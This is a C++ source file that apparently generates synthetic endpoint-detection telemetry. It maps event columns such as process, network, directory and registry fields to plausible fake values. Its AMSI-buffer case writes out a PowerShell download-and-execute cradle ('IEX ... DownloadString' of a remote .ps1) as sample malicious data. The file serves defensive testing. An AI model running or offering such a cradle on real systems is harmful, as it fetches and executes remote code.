#include "tarn/synthetic/SyntheticColumns.h"

#include <google/protobuf/descriptor.h>
#include <google/protobuf/message.h>

#include <string_view>
#include <unordered_map>

#include "tarn/synthetic/SyntheticCatalog.h"

namespace Tarn::Tool {
namespace {

using google::protobuf::FieldDescriptor;
using google::protobuf::Message;
using Storage::OSQuery::TableInfo;

// clang-format off
enum Rule : uint16_t {
  kGeneric,  // a neutral word or a small number
  kTime,
  // The acting process and its relatives.
  kPid, kPuid, kPidTime, kParentPid, kParentPuid, kParentTime, kParentCrc, kOtherPid, kOtherPuid,
  kOtherTime, kOtherUid, kUid, kGid, kDbuid, kPidSpace, kProcessFlags, kOrigin,
  kSpecialPermissions, kIntegrity, kElevation, kCommandLine, kArgOffsets, kProcessName,
  kProcessPath, kCwd, kEnvironment, kContainerId,
  // Files.
  kPath, kFile, kFile2, kFileAttributes, kFilePermissions, kChannel, kFileFlags, kFileType,
  kBytes, kEntropy, kAttributeName, kMount,
  // The network.
  kLocalIp, kRemoteIp, kLocalPort, kRemotePort, kProtocol, kExpectedProtocol, kDirection,
  kConnectionFlags, kLayer, kConnectionId, kLocalMac, kRemoteMac, kGatewayMacs, kInterfaceId,
  kInterfaceName, kHost, kUrlPath, kMethod, kUserAgent, kStatusCode, kMime, kReferer, kUri,
  kAuthorization, kCipher, kKerberosCipher, kSpn, kTicketOptions, kSharePath, kTreeName,
  kRpcInterface, kSamr, kRegistryOperation, kSocketPath,
  // Accounts and the directory.
  kUserName, kOtherUserName, kDomain, kDnsDomain, kSid, kOtherSid, kGroupSid, kGroupName, kGroups,
  kSidHistory, kClaims, kUac, kLoginType, kLogonId, kGuid, kLogonProcess, kAuthPackage,
  kPrivileges, kDn, kGroupDn, kNamingContext, kDra, kObjectClass, kAttributeNames,
  kAttributeValues, kPassword, kPasswordHash, kAccess,
  // Registry, services, tasks.
  kKey, kKey2, kValueName, kRegistryData, kDataType, kName, kName2, kServicePath, kServiceCommand,
  kStartType, kServiceStatus, kTaskCommands, kTaskPaths,
  // Detections and extra data.
  kActions, kSeverities, kDetectionTypes, kEngines, kDetectionNames, kExtraKeys, kExtraValues,
  // Everything else.
  kBool, kRareBool, kMostlyTrue, kZero, kSignal, kDuration, kSsid, kSubject, kMd5List,
  kMimeList, kDocList, kUriList, kEmailSelf, kEmailOther, kSha1List, kSha256List, kIssuer,
  kAmsiBuffer, kDataSource, kLogLine, kLogPath, kShellCommand, kDockerCommand, kPorts,
  kPublishedPorts, kCapabilities, kDevices, kDnsServers, kEntrypoint, kContainerEnv, kImageId,
  kImageName, kContainerIps, kMounts, kNetworks, kVolumes, kHostname, kSambaUsers,
  kSambaPermissions, kWmiMethod, kWmiClass, kWmiConsumer, kWmiCause, kWmiFilter, kWmiOperation,
  kFilterName, kRuleName, kPortsList, kMask, kMediaType, kPrinterFile, kWordText,
};
// clang-format on

const std::unordered_map<std::string_view, Rule>& RulesByName() {
  static const std::unordered_map<std::string_view, Rule> rules = {
      {"date_time", kTime},
      {"pid", kPid},
      {"attacker_pid", kPid},
      {"puid", kPuid},
      {"attacker_puid", kPuid},
      {"pid_time_stamp", kPidTime},
      {"parent_pid", kParentPid},
      {"parent_puid", kParentPuid},
      {"parent_pid_time_stamp", kParentTime},
      {"parent_path_crc", kParentCrc},
      {"requester_pid", kOtherPid},
      {"victim_pid", kOtherPid},
      {"target_pid", kOtherPid},
      {"victim_puid", kOtherPuid},
      {"target_puid", kOtherPuid},
      {"created_process", kOtherPuid},
      {"requester_pid_time_stamp", kOtherTime},
      {"requester_uid", kOtherUid},
      {"victim_uid", kOtherUid},
      {"impersonated_user_uid", kOtherUid},
      {"original_user_uid", kUid},
      {"user_uid", kUid},
      {"user_ruid", kUid},
      {"owner_uid", kUid},
      {"new_owner_uid", kUid},
      {"old_owner_uid", kUid},
      {"user_gid", kGid},
      {"user_rgid", kGid},
      {"owner_gid", kGid},
      {"new_owner_gid", kGid},
      {"old_owner_gid", kGid},
      {"group_id", kGid},
      {"new_group_id", kGid},
      {"old_group_id", kGid},
      {"user_dbuid", kDbuid},
      {"pid_space", kPidSpace},
      {"entry_point_pid_space", kPidSpace},
      {"process_flags", kProcessFlags},
      {"process_origin", kOrigin},
      {"process_special_permissions", kSpecialPermissions},
      {"integrity_level", kIntegrity},
      {"elevation_level", kElevation},
      {"command_line", kCommandLine},
      {"command_line_indexes", kArgOffsets},
      {"process_name", kProcessName},
      {"application_name", kProcessName},
      {"working_directory", kCwd},
      {"environment_variables", kEnvironment},
      {"container_id", kContainerId},
      {"process_path", kProcessPath},
      {"attacker_path", kProcessPath},
      {"application", kProcessPath},
      {"path", kPath},
      {"file_path", kFile},
      {"target_path", kFile},
      {"local_path", kFile},
      {"module_path", kFile},
      {"content_name", kFile},
      {"new_path", kFile2},
      {"destination", kFile2},
      {"link_path", kFile2},
      {"virtual_path", kFile2},
      {"mount_point_path", kMount},
      {"file_attributes", kFileAttributes},
      {"old_attributes", kFileAttributes},
      {"new_attributes", kFileAttributes},
      {"file_permissions", kFilePermissions},
      {"old_permissions", kFilePermissions},
      {"operation_channel", kChannel},
      {"file_flags", kFileFlags},
      {"file_flags_unix", kFileFlags},
      {"file_flags_windows", kFileFlags},
      {"file_type", kFileType},
      {"bytes_read", kBytes},
      {"bytes_written", kBytes},
      {"bytes_written_len", kBytes},
      {"file_size", kBytes},
      {"offset", kBytes},
      {"response_size", kBytes},
      {"transferred_in", kBytes},
      {"transferred_out", kBytes},
      {"entropy", kEntropy},
      {"extended_att_name", kAttributeName},
      {"transaction_id", kGuid},
      {"local_ip", kLocalIp},
      {"source_ip", kLocalIp},
      {"remote_ip", kRemoteIp},
      {"target_ip", kRemoteIp},
      {"requester_ip", kRemoteIp},
      {"ip_address", kRemoteIp},
      {"source_addr", kRemoteIp},
      {"local_port", kLocalPort},
      {"source_port", kLocalPort},
      {"remote_port", kRemotePort},
      {"target_port", kRemotePort},
      {"requester_port", kRemotePort},
      {"protocol", kProtocol},
      {"expected_protocol", kExpectedProtocol},
      {"direction", kDirection},
      {"connection_flags", kConnectionFlags},
      {"connection_layer", kLayer},
      {"connection_id", kConnectionId},
      {"local_mac", kLocalMac},
      {"remote_mac", kRemoteMac},
      {"gateway_macs", kGatewayMacs},
      {"interface_id", kInterfaceId},
      {"interface_name", kInterfaceName},
      {"host", kHost},
      {"host_name", kHost},
      {"request_method", kMethod},
      {"user_agent", kUserAgent},
      {"status_code", kStatusCode},
      {"response_mime_type", kMime},
      {"referer", kReferer},
      {"uri", kUri},
      {"authorization", kAuthorization},
      {"encryption_algorithm", kCipher},
      {"encryption_type", kKerberosCipher},
      {"service_name", kSpn},
      {"ticket_options", kTicketOptions},
      {"share_path", kSharePath},
      {"tree_name", kTreeName},
      {"interface", kRpcInterface},
      {"samr_type", kSamr},
      {"registry_operation", kRegistryOperation},
      {"username", kUserName},
      {"user_name", kUserName},
      {"source_username", kUserName},
      {"requester_username", kUserName},
      {"subject_username", kUserName},
      {"target_username", kOtherUserName},
      {"target_user_name", kOtherUserName},
      {"user_domain", kDomain},
      {"source_domain", kDomain},
      {"requester_domain", kDomain},
      {"subject_domain", kDomain},
      {"domain", kDomain},
      {"target_domain", kDomain},
      {"target_user_domain", kDomain},
      {"domain_name", kDomain},
      {"user_sid", kSid},
      {"source_sid", kSid},
      {"requester_sid", kSid},
      {"requester_user_sid", kSid},
      {"subject_user_sid", kSid},
      {"service_sid", kSid},
      {"target_sid", kOtherSid},
      {"target_user_sid", kOtherSid},
      {"target_group_sid", kGroupSid},
      {"target_groupname", kGroupName},
      {"groups", kGroups},
      {"sid_history", kSidHistory},
      {"claims", kClaims},
      {"device_claims", kClaims},
      {"user_account_control", kUac},
      {"login_type", kLoginType},
      {"logon_id", kLogonId},
      {"logon_guid", kGuid},
      {"requester_guid", kGuid},
      {"rule_id", kGuid},
      {"logon_process_name", kLogonProcess},
      {"authentication_package_name", kAuthPackage},
      {"assigned_privileges", kPrivileges},
      {"requested_privileges", kPrivileges},
      {"distinguished_name", kDn},
      {"user_distinguished_name", kDn},
      {"object_dn", kDn},
      {"old_object_dn", kDn},
      {"new_object_dn", kDn},
      {"object_name", kDn},
      {"group_distinguished_name", kGroupDn},
      {"naming_context", kNamingContext},
      {"destination_dra", kDra},
      {"source_dra", kDra},
      {"object_class", kObjectClass},
      {"object_type", kObjectClass},
      {"attribute_names", kAttributeNames},
      {"attribute_values", kAttributeValues},
      {"password", kPassword},
      {"password_hash", kPasswordHash},
      {"requested_access", kAccess},
      {"key", kKey},
      {"virtual_key", kKey2},
      {"value_name", kValueName},
      {"data", kRegistryData},
      {"data_type", kDataType},
      {"name", kName},
      {"new_name", kName2},
      {"service_path", kServicePath},
      {"new_service_path", kServicePath},
      {"new_command_line", kServiceCommand},
      {"service_start_type", kStartType},
      {"new_service_start_type", kStartType},
      {"service_status", kServiceStatus},
      {"new_service_status", kServiceStatus},
      {"command_lines", kTaskCommands},
      {"new_command_lines", kTaskCommands},
      {"target_paths", kTaskPaths},
      {"new_target_processes", kTaskPaths},
      {"actions_taken", kActions},
      {"notification_severities", kSeverities},
      {"notification_types", kDetectionTypes},
      {"notification_engines", kEngines},
      {"notification_names", kDetectionNames},
      {"extra_keys", kExtraKeys},
      {"extra_values", kExtraValues},
      {"is_granted", kMostlyTrue},
      {"is_signed", kMostlyTrue},
      {"is_active", kMostlyTrue},
      {"allow", kBool},
      {"is_local", kBool},
      {"is_internal", kBool},
      {"is_preauth", kMostlyTrue},
      {"is_recovered", kRareBool},
      {"is_driver", kRareBool},
      {"is_token_elevated", kBool},
      {"ephemeral", kBool},
      {"privileged", kRareBool},
      {"conn_from_browser", kBool},
      {"status_changed", kBool},
      {"action_failed", kRareBool},
      {"result", kZero},
      {"result_code", kZero},
      {"signal", kSignal},
      {"duration", kDuration},
      {"ssid", kSsid},
      {"subject", kSubject},
      {"attachements_md5_hashes", kMd5List},
      {"attachements_content_type", kMimeList},
      {"attachements_names", kDocList},
      {"attachment_ur_is", kUriList},
      {"receiver", kEmailSelf},
      {"delivered_to", kEmailSelf},
      {"sender", kEmailOther},
      {"original_sender", kEmailOther},
      {"sha1_thumbprints", kSha1List},
      {"sha256_thumbprints", kSha256List},
      {"issued_to", kIssuer},
      {"buffer", kAmsiBuffer},
      {"data_source", kDataSource},
      {"command", kShellCommand},
      {"docker_published_ports", kPublishedPorts},
      {"exposed_ports", kPorts},
      {"local_mapped_ports", kPorts},
      {"capabilities", kCapabilities},
      {"devices", kDevices},
      {"dns", kDnsServers},
      {"entrypoint", kEntrypoint},
      {"environment", kContainerEnv},
      {"environment_file", kEntrypoint},
      {"image_id", kImageId},
      {"image_name", kImageName},
      {"ips", kContainerIps},
      {"mounts", kMounts},
      {"networks", kNetworks},
      {"volumes", kVolumes},
      {"hostname", kHostname},
      {"users", kSambaUsers},
      {"permissions", kSambaPermissions},
      {"method_name", kWmiMethod},
      {"class_name", kWmiClass},
      {"consumer_name", kWmiConsumer},
      {"cause", kWmiCause},
      {"filter", kWmiFilter},
      {"operation", kWmiOperation},
      {"filter_name", kFilterName},
      {"rule_name", kRuleName},
      {"target_ip_ports", kPortsList},
      {"source_ip_mask", kMask},
      {"target_ip_mask", kMask},
      {"media_type", kMediaType},
      {"file_name", kPrinterFile},
      {"extended_att_value", kWordText},
      {"additional_info", kWordText},
      {"properties", kGuid},
      {"attribute_ldap_display_name", kAttributeName},
      {"attribute_value", kWordText},
      {"directory_service_name", kDnsDomain},
      {"tree_delete", kWordText},
      {"operation_type", kWordText},
      {"opcode", kWordText},
      {"task_category", kWordText},
      {"source_name", kWordText},
      {"directory_service_type", kWordText},
      {"gp_us", kWordText},
  };
  return rules;
}

bool StartsWith(std::string_view text, std::string_view prefix) {
  return text.substr(0, prefix.size()) == prefix;
}

// Columns whose meaning depends on their table.
Rule Classify(std::string_view table, std::string_view column) {
  auto it = RulesByName().find(column);
  Rule rule = it == RulesByName().end() ? kGeneric : it->second;
  if (column == "path") {
    if (StartsWith(table, "edr_process")) return kProcessPath;
    if (StartsWith(table, "edr_network_http")) return kUrlPath;
    if (table == "edr_local_generic_connect") return kSocketPath;
    if (table == "edr_log_info") return kLogPath;
    return kFile;
  }
  if (column == "data" && table == "edr_log_info") return kLogLine;
  if (column == "command" && table == "edr_docker_container") return kDockerCommand;
  if (column == "command_line" && StartsWith(table, "edr_service")) return kServiceCommand;
  if (column == "domain_name" && StartsWith(table, "edr_directory_service")) return kDnsDomain;
  if (column == "host_name" || (column == "host" && !StartsWith(table, "edr_network_http"))) {
    return kHost;
  }
  return rule;
}

std::string JoinList(const std::vector<std::string>& items) {
  std::string out;
  for (const std::string& item : items) {
    if (!out.empty()) out.push_back(',');
    out += item;
  }
  return out;
}

}  // namespace

struct ColumnFiller::Slot {
  const FieldDescriptor* field;
  uint16_t rule;
};

struct ColumnFiller::TableRules {
  const google::protobuf::Descriptor* descriptor = nullptr;
  std::vector<Slot> slots;
};

ColumnFiller::ColumnFiller(World& world) : world_(world) {
  tables_.resize(Storage::OSQuery::AllTables().size(), nullptr);
}

ColumnFiller::~ColumnFiller() {
  for (TableRules* rules : tables_) delete rules;
}

const ColumnFiller::TableRules& ColumnFiller::RulesOf(const TableInfo& table, const Message& row) {
  size_t index = static_cast<size_t>(&table - Storage::OSQuery::AllTables().data());
  TableRules*& rules = tables_[index];
  if (rules != nullptr && rules->descriptor == row.GetDescriptor()) return *rules;
  delete rules;
  rules = new TableRules;
  rules->descriptor = row.GetDescriptor();
  for (int i = 0; i < rules->descriptor->field_count(); ++i) {
    const FieldDescriptor* field = rules->descriptor->field(i);
    rules->slots.push_back({field, Classify(table.name, field->name())});
  }
  return *rules;
}

void ColumnFiller::Fill(const TableInfo& table, Message& row, EventContext& context) {
  const google::protobuf::Reflection& reflection = *row.GetReflection();
  for (const Slot& slot : RulesOf(table, row).slots) {
    switch (slot.field->cpp_type()) {
      case FieldDescriptor::CPPTYPE_UINT64:
        reflection.SetUInt64(&row, slot.field, Number(slot.rule, true, context));
        break;
      case FieldDescriptor::CPPTYPE_UINT32:
        reflection.SetUInt32(&row, slot.field,
                             static_cast<uint32_t>(Number(slot.rule, false, context)));
        break;
      case FieldDescriptor::CPPTYPE_STRING:
        reflection.SetString(&row, slot.field, Text(slot.rule, context));
        break;
      default: break;
    }
  }
}

uint64_t ColumnFiller::Number(uint16_t rule, bool wide, EventContext& c) {
  Random& r = world_.random();
  const Process& a = *c.actor;
  const Process& o = c.other != nullptr ? *c.other : a;
  const User& user = c.user != nullptr ? *c.user : world_.UserOf(a);
  const bool linux = a.IsLinux();
  const bool all = c.every_column;
  switch (rule) {
    case kTime: return static_cast<uint64_t>(c.time_ms);
    case kPid: return a.pid;
    case kPuid: return a.puid;
    case kPidTime: return static_cast<uint64_t>(a.start_ms);
    case kParentPid: return a.parent_pid;
    case kParentPuid: return a.parent_puid;
    case kParentTime: return static_cast<uint64_t>(a.parent_start_ms);
    case kParentCrc: return HashOf(a.parent_path) & 0xFFFFFFFFu;
    case kOtherPid: return o.pid;
    case kOtherPuid: return o.puid;
    case kOtherTime: return static_cast<uint64_t>(o.start_ms);
    case kOtherUid: return world_.UserOf(o).uid;
    case kUid: return user.uid;
    case kGid: return user.gid;
    case kDbuid: return user.dbuid;
    case kPidSpace: return a.pid_space;
    case kProcessFlags: return (linux ? 0x1 : 0x2) | (a.elevation == 2 ? 0x10 : 0) | 0x100;
    case kOrigin: return r.Chance(0.9) ? 1 : 2;
    case kSpecialPermissions: return a.Info().flags & Catalog::kElevated ? 1 : (all ? 2 : 0);
    case kIntegrity: return linux && all ? 1 : a.integrity;
    case kElevation: return linux && all ? 1 : a.elevation;
    case kFileAttributes: return linux ? (all ? 0x80 : 0) : (r.Chance(0.7) ? 0x20 : 0x80);
    case kFilePermissions: return linux ? (r.Chance(0.8) ? 0644 : 0755) : (all ? 0x1F01FF : 0);
    case kChannel: return r.Chance(0.95) ? 1 : 2;
    case kFileFlags: return r.Chance(0.6) ? 0x80 : 0x4000080;
    case kFileType: return r.Chance(0.9) ? 1 : 2;
    case kBytes: {
      uint64_t n = r.Between(64, 4096) << r.Below(wide ? 14 : 10);
      return n;
    }
    case kEntropy: return r.Between(3000, 7999);
    case kLocalPort: return c.inbound ? world_.Peer(c.peer).port : c.local_port;
    case kRemotePort: return c.inbound ? c.local_port : world_.Peer(c.peer).port;
    case kDirection: return c.inbound ? 1 : 2;
    case kConnectionFlags: return r.Chance(0.8) ? 0x2 : 0x12;
    case kLayer: return 3;
    case kConnectionId: return c.connection_id;
    case kInterfaceId: return linux ? 2 : 12;
    case kStatusCode: {
      static constexpr uint32_t kCodes[] = {200, 200, 200, 200, 200, 204, 301, 304, 401, 404};
      return r.Pick(kCodes);
    }
    case kTicketOptions: return 0x40810010;
    case kUac: return r.Chance(0.9) ? 512 : 66048;
    case kLoginType: {
      static constexpr uint32_t kTypes[] = {2, 2, 3, 3, 3, 5, 7, 10, 11};
      return r.Pick(kTypes);
    }
    case kLogonId: return r.Chance(0.3) ? 0x3E7 : 0x10000 + r.Below(0xFFFFF);
    case kPrivileges: return r.Chance(0.5) ? 0x100000 : 0x100020;
    case kAccess: return r.Chance(0.5) ? 0x120089 : 0x100;
    case kDataType: return r.Chance(0.6) ? 1 : (r.Chance(0.7) ? 4 : 3);
    case kStartType: return r.Between(2, 4);
    case kServiceStatus: return r.Chance(0.7) ? 4 : 1;
    case kBool: return all ? 1 : r.Below(2);
    case kRareBool: return all || r.Chance(0.03) ? 1 : 0;
    case kMostlyTrue: return r.Chance(0.95) || all ? 1 : 0;
    case kZero: return all || r.Chance(0.05) ? 5 : 0;
    case kSignal: {
      static constexpr uint32_t kSignals[] = {15, 15, 9, 1, 2, 17};
      return r.Pick(kSignals);
    }
    case kDuration: return r.Between(60, 7200);
    default: return r.Between(1, 8);
  }
}

std::string ColumnFiller::Text(uint16_t rule, EventContext& c) {
  Random& r = world_.random();
  const Process& a = *c.actor;
  const Process& o = c.other != nullptr ? *c.other : a;
  const User& user = c.user != nullptr ? *c.user : world_.UserOf(a);
  const User& other_user = c.other_user != nullptr ? *c.other_user : world_.UserOf(o);
  const RemoteHost& peer = world_.Peer(c.peer);
  const bool linux = a.IsLinux();
  const bool all = c.every_column;
  const bool v6 = peer.address.find(':') != std::string::npos;
  auto list = [&](auto make) {
    std::vector<std::string> items;
    for (uint32_t i = 0; i < c.list_items; ++i) items.push_back(make(i));
    return JoinList(items);
  };
  auto sid_of = [&](const User& u) {
    if (!u.sid.empty()) return u.sid;
    return "S-1-22-1-" + std::to_string(u.uid);  // a Unix user as Windows names one
  };
  auto dn_of = [&](const User& u) {
    return "CN=" + u.name + ",OU=Users,OU=Corp,DC=corp,DC=example,DC=com";
  };
  switch (rule) {
    case kCommandLine: return a.command_line;
    case kArgOffsets: {
      std::string out;
      for (uint64_t offset : a.arg_offsets) {
        if (!out.empty()) out.push_back(',');
        out += std::to_string(offset);
      }
      return out.empty() && all ? "0" : out;
    }
    case kProcessName: return a.name;
    case kProcessPath: return a.path;
    case kCwd: return a.cwd;
    case kEnvironment:
      if (!all && r.Chance(0.7)) return "";
      return linux ? "PATH=/usr/local/bin:/usr/bin:/bin HOME=" + world_.Home(user, true) +
                         " LANG=C.UTF-8"
                   : "PATH=C:\\Windows\\system32;C:\\Windows TEMP=" + world_.Home(user, false) +
                         "\\AppData\\Local\\Temp";
    case kContainerId:
      return a.container_id.empty() && all ? world_.ContainerId(0) : a.container_id;
    case kFile: return c.file.empty() ? world_.FilePath(a) : c.file;
    case kFile2: return c.file2.empty() ? world_.FilePath(a) : c.file2;
    case kMount: return linux ? "/media/" + user.name + "/USB" : "E:\\";
    case kBytes:  // a text column: the first bytes written, in hex
      return World::Hex(c.file, 32);
    case kAttributeName:
      return linux ? "user.xdg.origin.url" : (r.Chance(0.5) ? "Zone.Identifier" : "description");
    case kLocalIp: return world_.LocalAddress(v6);
    case kRemoteIp: return peer.address;
    case kProtocol: return peer.protocol == "DNS" ? "UDP" : "TCP";
    case kExpectedProtocol: return peer.protocol;
    case kLocalMac: return world_.LocalMac();
    case kRemoteMac: {
      if (!peer.internal) return world_.GatewayMac();  // outside hosts are behind the router
      std::string hex = World::Hex(peer.address, 6);
      return "00:1a:2b:" + hex.substr(0, 2) + ":" + hex.substr(2, 2) + ":" + hex.substr(4, 2);
    }
    case kGatewayMacs: return world_.GatewayMac();
    case kInterfaceName: return linux ? "eth0" : "Ethernet";
    case kHost: return peer.host;
    case kUrlPath: return std::string(r.Pick(Catalog::UrlPaths()));
    case kMethod: return r.Chance(0.8) ? "GET" : "POST";
    case kUserAgent: return std::string(r.Pick(Catalog::UserAgents()));
    case kMime: return std::string(r.Pick(Catalog::MimeTypes()));
    case kReferer: return r.Chance(0.5) && !all ? "" : "https://" + peer.host + "/";
    case kUri: return "https://" + peer.host + std::string(r.Pick(Catalog::UrlPaths()));
    case kAuthorization: return "Negotiate " + World::Hex(peer.host + user.name, 40);
    case kCipher: return r.Chance(0.7) ? "TLS_AES_256_GCM_SHA384" : "TLS_AES_128_GCM_SHA256";
    case kKerberosCipher: return r.Chance(0.8) ? "0x12" : "0x17";
    case kSpn: return r.Chance(0.5) ? "krbtgt/CORP.EXAMPLE.COM" : "cifs/fs01.corp.example.com";
    case kSharePath: return r.Chance(0.5) ? "\\\\*\\IPC$" : "\\\\*\\share";
    case kTreeName: return "\\\\fs01.corp.example.com\\share";
    case kRpcInterface: return "367abb81-9844-35f1-ad32-98f038001003";
    case kSamr: return r.Chance(0.5) ? "SamrEnumerateUsersInDomain" : "SamrQueryInformationUser";
    case kRegistryOperation: return r.Chance(0.5) ? "OpenKey" : "QueryValue";
    case kSocketPath:
      return linux ? "/run/docker.sock" : "\\\\.\\pipe\\" + std::string(r.Pick(Catalog::Words()));
    case kUserName: return user.name;
    case kOtherUserName: return other_user.name;
    case kDomain: return user.domain.empty() ? world_.Domain() : user.domain;
    case kDnsDomain: return world_.DnsDomain();
    case kSid: return sid_of(user);
    case kOtherSid: return sid_of(other_user);
    case kGroupSid: return world_.DomainSid() + (r.Chance(0.5) ? "-512" : "-513");
    case kGroupName: return r.Chance(0.5) ? "Domain Admins" : "Remote Desktop Users";
    case kGroups:
      return list([&](uint32_t i) {
        static constexpr std::string_view kGroupNames[] = {"Domain Users", "VPN Users",
                                                           "Developers", "Remote Desktop Users"};
        return std::string(kGroupNames[i % 4]);
      });
    case kSidHistory: return all || r.Chance(0.1) ? world_.DomainSid() + "-2231" : "";
    case kClaims:
      return list([&](uint32_t i) { return i == 0 ? "department=Engineering" : "country=DE"; });
    case kGuid: return "{" + world_.Guid() + "}";
    case kLogonProcess: return r.Chance(0.6) ? "User32" : "Kerberos";
    case kAuthPackage: return r.Chance(0.7) ? "Negotiate" : "NTLM";
    case kDn: return dn_of(c.other_user != nullptr ? other_user : user);
    case kGroupDn: return "CN=Developers,OU=Groups,OU=Corp,DC=corp,DC=example,DC=com";
    case kNamingContext: return "DC=corp,DC=example,DC=com";
    case kDra:
      return "CN=NTDS Settings,CN=DC0" + std::to_string(r.Between(1, 2)) +
             ",CN=Servers,CN=Default-First-Site-Name,CN=Sites,CN=Configuration,DC=corp,DC=example,"
             "DC=com";
    case kObjectClass: return r.Chance(0.6) ? "user" : (r.Chance(0.5) ? "group" : "computer");
    case kAttributeNames:
      return list([](uint32_t i) { return i % 2 == 0 ? "userAccountControl" : "description"; });
    case kAttributeValues:
      return list([](uint32_t i) { return i % 2 == 0 ? "512" : "workstation"; });
    case kPassword:
      return std::string(r.Pick(Catalog::Words())) + std::to_string(r.Between(10, 99)) + "!";
    case kPasswordHash: return World::Hex(user.name + "pw", 32);
    case kKey: return c.key.empty() ? std::string(r.Pick(Catalog::RegistryKeys())) : c.key;
    case kKey2: return "HKU\\" + sid_of(user) + "_Classes\\VirtualStore\\MACHINE\\SOFTWARE";
    case kValueName: return std::string(r.Pick(Catalog::RegistryValues()));
    case kRegistryData: return r.Chance(0.5) ? a.path : std::to_string(r.Below(100000));
    case kName: return c.name.empty() ? std::string(r.Pick(Catalog::Words())) : c.name;
    case kName2: return c.name + (all || r.Chance(0.5) ? "_v2" : "");
    case kServicePath:
    case kServiceCommand:
      return c.file2.empty() ? "C:\\Windows\\System32\\svchost.exe -k netsvcs" : c.file2;
    case kTaskCommands: return list([&](uint32_t) { return c.file2.empty() ? a.path : c.file2; });
    case kTaskPaths: return list([&](uint32_t) { return a.path; });
    case kActions: return list([](uint32_t i) { return i == 0 ? "blocked" : "reported"; });
    case kSeverities: return list([&](uint32_t i) { return std::to_string(i == 0 ? 4 : 2); });
    case kDetectionTypes:
      return list([](uint32_t i) { return i == 0 ? "malware" : "suspicious_behavior"; });
    case kEngines: return list([](uint32_t i) { return i == 0 ? "AMSI" : "ML"; });
    case kDetectionNames:
      return list([&](uint32_t) { return std::string(r.Pick(Catalog::DetectionNames())); });
    case kExtraKeys: {
      static constexpr std::string_view kKeys[] = {"rule", "technique", "parent_image", "score"};
      c.keys.clear();
      for (uint32_t i = 0; i < c.list_items; ++i) c.keys.emplace_back(kKeys[i % 4]);
      return JoinList(c.keys);
    }
    case kExtraValues:
      return list([&](uint32_t i) -> std::string {
        // Both arms views: a std::string arm would make the view dangle.
        std::string_view key = i < c.keys.size() ? std::string_view(c.keys[i]) : "rule";
        if (key == "technique") return "T1059.001";
        if (key == "parent_image") return o.path;
        if (key == "score") return std::to_string(r.Between(40, 99));
        return "R" + std::to_string(r.Between(1000, 9999));
      });
    case kSsid: return r.Chance(0.8) ? "CorpWiFi" : "Guest";
    case kSubject:
      return (r.Chance(0.4) ? "RE: " : "") + std::string(r.Pick(Catalog::DocumentNames()));
    case kMd5List:
      return list([&](uint32_t i) { return World::Hex(c.file + std::to_string(i), 32); });
    case kMimeList:
      return list([](uint32_t i) {
        return i == 0 ? "application/pdf"
                      : "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
      });
    case kDocList:
      return list([&](uint32_t) { return std::string(r.Pick(Catalog::DocumentNames())) + ".pdf"; });
    case kUriList:
      return list(
          [&](uint32_t) { return "https://" + peer.host + "/d/" + World::Hex(peer.host, 8); });
    case kEmailSelf: return world_.InteractiveUser().name + "@" + world_.DnsDomain();
    case kEmailOther: return world_.AnyUser(false).name + "@" + world_.DnsDomain();
    case kSha1List:
      return list([&](uint32_t i) { return World::Hex(c.file + "1" + std::to_string(i), 40); });
    case kSha256List:
      return list([&](uint32_t i) { return World::Hex(c.file + "2" + std::to_string(i), 64); });
    case kIssuer: return r.Chance(0.8) ? "Microsoft Windows" : "Example Hardware Inc.";
    case kAmsiBuffer:
      return a.command_line.find("-Enc") != std::string::npos
                 ? "IEX (New-Object Net.WebClient).DownloadString('https://" +
                       world_.Peer(c.peer).host + "/a.ps1')"
                 : "Get-ChildItem -Path $env:TEMP | Remove-Item -Recurse";
    case kDataSource: return r.Chance(0.8) ? "PowerShell" : "VBScript";
    case kLogLine:
      return "sshd[" + std::to_string(a.pid) + "]: Accepted publickey for " + user.name + " from " +
             peer.address;
    case kLogPath: return linux ? "/var/log/auth.log" : "C:\\Windows\\Logs\\CBS\\CBS.log";
    case kShellCommand: return a.command_line;
    case kDockerCommand: return "nginx -g 'daemon off;'";
    case kPorts: return "80/tcp";
    case kPublishedPorts: return "0.0.0.0:8080->80/tcp";
    case kCapabilities:
      return list([](uint32_t i) { return i == 0 ? "CAP_CHOWN" : "CAP_NET_BIND_SERVICE"; });
    case kDevices: return all || r.Chance(0.1) ? "/dev/fuse" : "";
    case kDnsServers: return "10.20.0.10";
    case kEntrypoint: return "/docker-entrypoint.sh";
    case kContainerEnv: return "NGINX_VERSION=1.27.2";
    case kImageId: return "sha256:" + World::Hex(c.name + "image", 64);
    case kImageName: return std::string(r.Pick(Catalog::ImageNames()));
    case kContainerIps: return "172.17.0." + std::to_string(r.Between(2, 9));
    case kMounts: return "/var/lib/docker/volumes/data/_data:/data";
    case kNetworks: return "bridge";
    case kVolumes: return "/data";
    case kHostname: return World::Hex(c.name, 12);
    case kSambaUsers: return world_.Domain() + "\\" + world_.InteractiveUser().name;
    case kSambaPermissions: return "0770";
    case kWmiMethod: return "Create";
    case kWmiClass: return "Win32_Process";
    case kWmiConsumer: return "SCM Event Log Consumer";
    case kWmiCause: return "__InstanceModificationEvent";
    case kWmiFilter:
      return "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
             "'Win32_Service'";
    case kWmiOperation:
      return "IWbemServices::ExecQuery - root\\cimv2 : SELECT * FROM Win32_Process";
    case kFilterName: return "Block inbound SMB";
    case kRuleName: return c.name.empty() ? "Allow " + a.name : c.name;
    case kPortsList: return "443,8443";
    case kMask: return "255.255.255.0";
    case kMediaType: return "Ethernet";
    case kPrinterFile: return std::string(r.Pick(Catalog::DocumentNames())) + ".pdf";
    case kWordText:
    default: return std::string(r.Pick(Catalog::Words())) + "-" + std::to_string(r.Between(1, 99));
  }
}

}  // namespace Tarn::Tool
